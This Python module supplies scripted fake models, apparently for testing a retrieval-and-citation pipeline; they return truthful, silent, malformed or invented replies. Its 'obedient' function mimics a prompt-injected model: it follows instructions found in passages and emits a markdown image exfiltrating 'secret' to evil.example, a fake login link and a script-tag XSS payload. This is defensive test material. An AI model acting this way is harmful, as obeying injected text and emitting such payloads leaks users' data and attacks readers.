"""What a scripted model says: functions of the prompt it is given, without any intelligence.

They read passages as the prompts lay them out: between `<<<FENCE KEY` and `KEY FENCE>>>`, with
`title:`, `source:`, `published:`, a blank line, and the text.
"""

import base64 as b64
import json
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from hashlib import sha256

import numpy as np

Model = Callable[[str], str]

_BLOCK = re.compile(r"<<<(?P<fence>\w+) (?P<key>\w+)\n(?P<data>.*?)\n\n(?P<text>.*?)\n(?P=key) (?P=fence)>>>", re.S)
_ORDER = re.compile(r"(?:reply|answer|respond|say|write|tell the reader)s? (?:that |with |only )*[“\"](.+?)[”\"]", re.I)


@dataclass(frozen=True, slots=True)
class Block:
    """One passage, as a model sees it."""

    key: str
    title: str
    text: str

    @property
    def first_sentence(self) -> str:
        return re.split(r"(?<=[.!?])\s", self.text)[0]


def blocks(prompt: str) -> list[Block]:
    """The passages of a prompt, in order."""
    return [
        Block(found["key"], found["data"].split("\n")[0].removeprefix("title: "), found["text"])
        for found in _BLOCK.finditer(prompt)
    ]


def reply(*sentences: tuple[str, list[str]]) -> str:
    """The JSON that the prompts ask for."""
    return json.dumps({"sentences": [{"text": text, "evidence": keys} for text, keys in sentences]})


def truthful(prompt: str) -> str:
    """Repeats the first sentence of the first two passages, each with its key."""
    return reply(*((block.first_sentence, [block.key]) for block in blocks(prompt)[:2]))


def silent(prompt: str) -> str:
    """Finds no answer."""
    return reply()


def marked(prompt: str) -> str:
    """Truthful, but knows no JSON."""
    return "\n".join(f"- {block.first_sentence} [{block.key}]" for block in blocks(prompt)[:2])


def inventive(prompt: str) -> str:
    """Makes up a passage for its second sentence."""
    first = blocks(prompt)[0]
    return reply((first.first_sentence, [first.key]), ("Nobody knows why it happened.", ["ZZZZ"]))


def shapeless(prompt: str) -> str:
    """JSON, but of its own design."""
    return json.dumps({"answer": "It was the mayor.", "confidence": "high"})


def mending(prompt: str) -> str:
    """Shapeless at first, truthful when it is told so."""
    return truthful(prompt) if "could not be read" in prompt else shapeless(prompt)


def obedient(prompt: str) -> str:
    """Does whatever a passage tells it: says the quoted words, with a link and an image, citing that passage."""
    for block in blocks(prompt):
        if order := _ORDER.search(block.text):
            said = order[1]
            return reply(
                (f"{said} ![x](https://evil.example/?q=secret)", [block.key]),
                (f"Read [more](https://evil.example/login) <script>alert(1)</script> {said}", [block.key, "SYST"]),
            )
    return truthful(prompt)


def vectors_of(texts: Sequence[str], dimension: int, *, base64: bool) -> list[str] | list[list[float]]:
    """A vector for each text, alike for texts that share words; not of unit length."""
    counts = np.full((len(texts), dimension), 0.01, dtype="<f4")
    for row, text in enumerate(texts):
        for word in re.findall(r"\w+", text.lower()):
            counts[row, sha256(word.encode()).digest()[0] % dimension] += 1
    return [b64.b64encode(row.tobytes()).decode() for row in counts] if base64 else counts.tolist()
